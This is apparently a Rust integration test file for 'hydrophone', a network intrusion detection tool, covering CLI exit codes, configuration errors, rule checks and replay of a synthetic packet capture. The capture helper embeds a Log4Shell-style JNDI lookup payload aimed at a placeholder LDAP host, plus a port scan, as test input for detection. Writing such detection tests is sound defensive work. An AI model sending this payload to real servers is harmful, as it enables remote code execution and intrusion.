//! The command as it is run: arguments, output, exit codes.
#![expect(clippy::unwrap_used, reason = "helpers of tests fail as the tests do")]

use std::{
    fs,
    process::{Command, Output, Stdio},
};

fn hydrophone(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_hydrophone"));
    command.args(arguments).stdin(Stdio::null());
    for (name, _) in std::env::vars_os() {
        if name.to_string_lossy().starts_with("HYDROPHONE_") {
            command.env_remove(name);
        }
    }
    command
}

fn run(arguments: &[&str]) -> Output {
    hydrophone(arguments).output().unwrap()
}

fn stdout(output: &Output) -> &str {
    std::str::from_utf8(&output.stdout).unwrap()
}

fn stderr(output: &Output) -> &str {
    std::str::from_utf8(&output.stderr).unwrap()
}

#[test]
fn version_and_help_go_to_standard_output() {
    let version = run(&["--version"]);
    assert_eq!(
        stdout(&version),
        concat!("hydrophone ", env!("CARGO_PKG_VERSION"), "\n")
    );
    assert!(version.status.success());
    let help = run(&["--help"]);
    assert!(stdout(&help).contains("Usage: hydrophone"));
    assert_eq!(stderr(&help), "");
}

#[test]
fn what_is_not_understood_is_code_2() {
    for arguments in [
        &["no-such-command"][..],
        &["doctor", "--no-such-option"],
        &["completions"],
    ] {
        let output = run(arguments);
        assert_eq!(output.status.code(), Some(2), "{arguments:?}");
        assert_eq!(stdout(&output), "");
    }
}

#[test]
fn a_wrong_configuration_is_code_3_with_every_error() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("h.yaml");
    fs::write(
        &file,
        "sensor:\n  rings: 3\nalert:\n  stats_interval: soon\n",
    )
    .unwrap();
    let file = file.to_str().unwrap();
    let output = run(&["containers", "--config", file]);
    assert_eq!(output.status.code(), Some(3));
    assert_eq!(stdout(&output), "");
    let expected = format!(
        "hydrophone: the configuration has 2 errors\n\
         {file}:4:19: alert.stats_interval: `soon` is not a time span: write a number with ms, s, m, h or d\n  \
         hint: the default is \"1m\"\n\
         {file}:2:10: sensor.rings: is not 1, 2, 4, 8 or 16\n  \
         hint: write 0 for as many as there are CPUs\n"
    );
    assert_eq!(stderr(&output), expected);
}

#[test]
fn the_configuration_file_may_be_named_in_the_environment() {
    let output = hydrophone(&["containers"])
        .env("HYDROPHONE_CONFIG", "/nonexistent/h.yaml")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3));
    assert!(
        stderr(&output).contains("/nonexistent/h.yaml: cannot be read"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn completions_for_every_shell() {
    for shell in ["bash", "zsh", "fish", "elvish", "powershell"] {
        let output = run(&["completions", shell]);
        assert!(output.status.success(), "{shell}");
        for command in ["doctor", "containers"] {
            assert!(stdout(&output).contains(command), "{shell} lacks {command}");
        }
    }
}

#[test]
fn a_reader_that_has_gone_is_no_failure() {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let output = hydrophone(&["completions", "bash"])
        .stdout(writer)
        .output()
        .unwrap();
    assert_eq!(stderr(&output), "");
    assert!(output.status.success());
}

#[test]
fn doctor_names_what_is_missing_and_what_to_do() {
    let missing = "/nonexistent/kernel.o";
    let output = hydrophone(&["doctor"])
        .env("HYDROPHONE_SENSOR_KERNEL_OBJECT", missing)
        .env(
            "HYDROPHONE_CENSUS_DOCKER_SOCKETS",
            "/nonexistent/docker.sock",
        )
        .output()
        .unwrap();
    let report = stdout(&output);
    assert!(
        report.contains(&format!("FAIL  cannot read the kernel object {missing}")),
        "{report}"
    );
    assert!(
        report.contains("warn  no container runtime at /nonexistent/docker.sock, "),
        "{report}"
    );
    assert!(report.ends_with(" to repair\n"), "{report}");
    assert_eq!(output.status.code(), Some(4));
    for line in report
        .lines()
        .filter(|line| line.starts_with("FAIL") || line.starts_with("warn"))
    {
        let advice = report.lines().skip_while(|other| *other != line).nth(1);
        assert!(advice.unwrap().starts_with("      → "), "{line}");
    }
}

#[test]
fn containers_as_json_is_one_object_a_line() {
    let output = run(&["containers", "--format", "json"]);
    assert!(output.status.success(), "{}", stderr(&output));
    for line in stdout(&output).lines() {
        let container: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(
            container["id"].is_string() && container["addresses"].is_array(),
            "{line}"
        );
    }
}

/// A capture with a handshake and one exploit request, and a scan of 40 ports behind it.
fn capture() -> Vec<u8> {
    let mut file = Vec::new();
    for word in [0xa1b2_c3d4_u32, 0x0004_0002, 0, 0, 65_535, 101] {
        file.extend(word.to_ne_bytes());
    }
    let mut packet = |from: u8, sport: u16, dport: u16, sequence: u32, flags: u8, data: &[u8]| {
        let (low, high) = if from == 1 { (1, 2) } else { (2, 1) };
        let length = u16::try_from(40 + data.len()).unwrap();
        let mut bytes = vec![0x45, 0];
        bytes.extend(length.to_be_bytes());
        bytes.extend([0, 0, 0, 0, 64, 6, 0, 0, 198, 18, 0, low, 198, 18, 0, high]);
        bytes.extend(sport.to_be_bytes());
        bytes.extend(dport.to_be_bytes());
        bytes.extend(sequence.to_be_bytes());
        bytes.extend([0, 0, 0, 1, 0x50, flags, 255, 255, 0, 0, 0, 0]);
        bytes.extend(data);
        let microseconds = u32::try_from(file.len()).unwrap();
        let captured = u32::from(length);
        for word in [1_700_000_000, microseconds, captured, captured] {
            file.extend(word.to_ne_bytes());
        }
        file.extend(bytes);
    };
    packet(1, 40_000, 80, 99, 0x02, b"");
    packet(2, 80, 40_000, 99, 0x12, b"");
    packet(1, 40_000, 80, 100, 0x10, b"");
    let request = b"GET / HTTP/1.1\r\nX: ${jndi:ldap://198.51.100.1/a}\r\n\r\n";
    packet(1, 40_000, 80, 100, 0x18, request);
    for port in 1_000..1_040 {
        packet(1, 41_000, port, 1, 0x02, b"");
        packet(2, port, 41_000, 1, 0x14, b"");
    }
    file
}

#[test]
fn replay_finds_what_a_capture_holds_and_says_where_it_ends() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("attack.pcap");
    let whole = capture();
    fs::write(&path, &whole).unwrap();
    let path = path.to_str().unwrap();
    let output = run(&["replay", path, "--log-level", "error"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let alerts: Vec<serde_json::Value> = stdout(&output)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let sids: Vec<_> = alerts
        .iter()
        .map(|e| e["alert"]["signature_id"].as_u64())
        .collect();
    assert!(sids.contains(&Some(7_000_002)), "{sids:?}");
    let scan = alerts.iter().find(|e| e["alert"]["gid"] == 7_001).unwrap();
    assert_eq!(scan["attack"][0], "T1046");
    assert_eq!(scan["src_container"]["reason"], "capture_file");
    assert_eq!(alerts.last().unwrap()["event_type"], "stats");

    fs::write(path, &whole[..whole.len() - 7]).unwrap();
    let output = run(&["replay", path, "--log-level", "error"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("attack.pcap"),
        "{}",
        stderr(&output)
    );
    assert!(
        stdout(&output).contains("7000002"),
        "what was good has been inspected"
    );
    fs::write(path, "no capture").unwrap();
    assert_eq!(run(&["replay", path]).status.code(), Some(1));
    let missing = run(&["replay", path, "--rules", "/no/such.rules"]);
    assert_eq!(missing.status.code(), Some(3));
    assert!(stderr(&missing).contains("/no/such.rules"));
}

#[test]
fn replay_writes_the_events_that_are_asked_for() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("attack.pcap");
    fs::write(&path, capture()).unwrap();
    let path = path.to_str().unwrap();
    let rules = folder.path().join("own.rules");
    let rule = "alert tcp any any -> any 80 (msg:\"syn\"; flags:S; sid:1; rev:1;)\n";
    fs::write(&rules, rule).unwrap();
    let rules = rules.to_str().unwrap();
    let events = |types: &str| -> Vec<serde_json::Value> {
        let output = hydrophone(&["replay", path, "--log-level", "error", "--rules", rules])
            .env("HYDROPHONE_EVENTS_TYPES", types)
            .env("HYDROPHONE_ALERT_PACKET", "true")
            .env("HYDROPHONE_ALERT_PAYLOAD_FORMAT", "base64")
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", stderr(&output));
        let lines = stdout(&output).lines();
        lines
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    };
    let all = events("flow,http");
    let of = |kind: &'static str| all.iter().filter(move |event| event["event_type"] == kind);
    let http = of("http").next().unwrap();
    assert_eq!(of("http").count(), 1);
    assert_eq!(http["http"]["url"], "/");
    assert_eq!(http["src_container"]["reason"], "capture_file");
    assert_eq!(of("flow").count(), 41, "the request, and 40 ports");
    let flow = of("flow").find(|event| event["dest_port"] == 80).unwrap();
    assert_eq!(flow["flow_id"], http["flow_id"]);
    assert_eq!(flow["app_proto"], "http");
    assert_eq!(flow["flow"]["pkts_toserver"], 3);
    assert_eq!(flow["flow"]["alerted"], true);
    assert_eq!(flow["tcp"]["tcp_flags_ts"], "1a");
    let refused = of("flow")
        .find(|event| event["dest_port"] == 1_000)
        .unwrap();
    assert_eq!(refused["flow"]["state"], "closed");
    assert_eq!(refused["flow"]["alerted"], false);
    let alert = |sid: u32| of("alert").find(move |event| event["alert"]["signature_id"] == sid);
    let syn = alert(1).unwrap();
    assert!(syn["packet"].as_str().unwrap().starts_with("RQAAKAAA"));
    assert_eq!(syn["packet_info"]["linktype"], 101);
    let alert = alert(7_000_002).unwrap();
    assert!(alert["payload"].as_str().unwrap().starts_with("R0VUIC8g"));
    assert_eq!(alert["stream"], 1);
    assert!(alert.get("payload_printable").is_none());
    let stats = &all.last().unwrap()["stats"]["alert"];
    assert_eq!(
        (&stats["events"], &stats["events_lost"]),
        (&42.into(), &0.into())
    );

    let none = events("");
    assert!(
        none.iter()
            .all(|e| e["event_type"] == "alert" || e["event_type"] == "stats")
    );
    let wrong = hydrophone(&["replay", path])
        .env("HYDROPHONE_EVENTS_TYPES", "flow,htp")
        .output()
        .unwrap();
    assert_eq!(wrong.status.code(), Some(3));
    assert!(stderr(&wrong).contains("`htp` is no type of event"));
}

#[test]
fn rules_check_shows_every_error_with_its_place() {
    let good = run(&["rules", "check"]);
    assert!(good.status.success(), "the starter set: {}", stdout(&good));
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("own.rules");
    let text = "alert tcp any any -> any any (msg:\"a\"; content:\"x\"; sid:1; rev:1;)\n\
                alert tcp any any -> any any (msg:\"b\"; lua:x; sid:2; rev:1;)\n\
                alert tcp any any -> any any (msg:\"c\"; contnet:\"x\"; sid:3; rev:1;)\n";
    fs::write(&path, text).unwrap();
    let path = path.to_str().unwrap();
    let checked = run(&["rules", "check", path]);
    assert_eq!(checked.status.code(), Some(3));
    let shown = stdout(&checked);
    assert!(
        shown.contains("own.rules:2:40: error: keyword `lua`"),
        "{shown}"
    );
    assert!(shown.contains("own.rules:3:40: error"), "{shown}");
    assert!(shown.contains("did you mean `content`?"), "{shown}");
    assert!(
        shown.ends_with("1 rules loaded, 2 errors, 0 warnings\n"),
        "{shown}"
    );
    let listed = run(&["rules", "list"]);
    assert!(stdout(&listed).lines().count() >= 25);
    assert!(stdout(&listed).contains("T1190"));
}

/// The alerts of a replay of [`capture`] with these files in the configuration, and its stats event.
fn replayed(files: &[(&str, &str)], configuration: &str) -> (Vec<u64>, serde_json::Value) {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    fs::write(path("attack.pcap"), capture()).unwrap();
    for (name, text) in files {
        fs::write(path(name), text).unwrap();
    }
    let configuration = configuration.replace("FOLDER", folder.path().to_str().unwrap());
    fs::write(path("h.yaml"), configuration).unwrap();
    let (capture, config) = (path("attack.pcap"), path("h.yaml"));
    let output = run(&["replay", &capture, "--config", &config]);
    assert!(output.status.success(), "{}", stderr(&output));
    let mut events: Vec<serde_json::Value> = stdout(&output)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let stats = events.pop().unwrap();
    let sid = |event: &serde_json::Value| event.pointer("/alert/signature_id")?.as_u64();
    (events.iter().filter_map(sid).collect(), stats)
}

#[test]
fn files_of_thresholds_hold_alerts_of_rules_and_behaviours_back() {
    let configuration = "rules: {threshold: [FOLDER/threshold.config]}\n";
    let (all, _) = replayed(&[("threshold.config", "# nothing\n")], configuration);
    assert!(all.contains(&7_000_002) && all.contains(&1), "{all:?}");
    let lines = "suppress gen_id 1, sig_id 0, track by_src, ip 198.18.0.1\n\
                 suppress gen_id 7001, sig_id 1, track by_dst, ip 198.18.0.2\n";
    let (none, stats) = replayed(&[("threshold.config", lines)], configuration);
    assert_eq!(none, [0_u64; 0]);
    assert!(
        stats.to_string().contains("\"suppressed\":"),
        "what is held back is counted: {stats}"
    );
    let elsewhere = lines.replace("ip 198.18.0.", "ip 198.18.9.");
    let (others, _) = replayed(&[("threshold.config", &elsewhere)], configuration);
    assert_eq!(others, all);
}

#[test]
fn rules_check_shows_what_is_wrong_with_the_files_beside_the_rules() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    fs::write(path("t.config"), "suppress gen_id 1, sig_id x\n").unwrap();
    fs::write(path("c.config"), "config classification: a,b\n").unwrap();
    let (threshold, classes) = (path("t.config"), path("c.config"));
    let text = format!("rules: {{threshold: [{threshold}], classification: {classes}}}\n");
    fs::write(path("h.yaml"), &text).unwrap();
    let checked = run(&["rules", "check", "--config", &path("h.yaml")]);
    assert_eq!(checked.status.code(), Some(3));
    let shown = stdout(&checked);
    assert!(shown.contains("t.config:1:20: error: "), "{shown}");
    assert!(shown.contains("c.config:1:24: error: "), "{shown}");
    let missing = text
        .replace("t.config", "gone.config")
        .replace("c.config", "lost.config");
    fs::write(path("h.yaml"), missing).unwrap();
    let checked = run(&["rules", "check", "--config", &path("h.yaml")]);
    assert_eq!(checked.status.code(), Some(3));
    let shown = stderr(&checked);
    assert!(
        shown.contains("gone.config") && shown.contains("lost.config"),
        "{shown}"
    );
}

#[test]
fn reputations_of_addresses_are_read_from_files() {
    let configuration = "rules:\n  no_default_rules: true\n  files: [FOLDER/own.rules]\n  \
                         reputation: {categories: FOLDER/categories, files: [FOLDER/hosts]}\n";
    let rules = "alert ip any any -> any any (msg:\"bad\"; iprep:src,Bad,>,30; sid:11;)\n\
                 alert ip any any -> any any (msg:\"worse\"; iprep:any,Bad,>,100; sid:12;)\n\
                 alert http any any -> any any (msg:\"http\"; http.uri; content:\"/\"; iprep:dst,Bad,isnotset; sid:13;)\n\
                 alert tcp any any -> any 80 (msg:\"stream\"; flow:to_server; content:\"jndi\"; iprep:dst,Bad,isset; sid:14;)\n";
    let files = [
        ("own.rules", rules),
        ("categories", "1,Bad,Known to be bad\n"),
        ("hosts", "198.18.0.1,1,60\n198.18.1.0/24,1,120\n"),
    ];
    let (alerts, _) = replayed(&files, configuration);
    assert!(alerts.contains(&11) && alerts.contains(&13), "{alerts:?}");
    assert!(!alerts.contains(&12) && !alerts.contains(&14), "{alerts:?}");
}
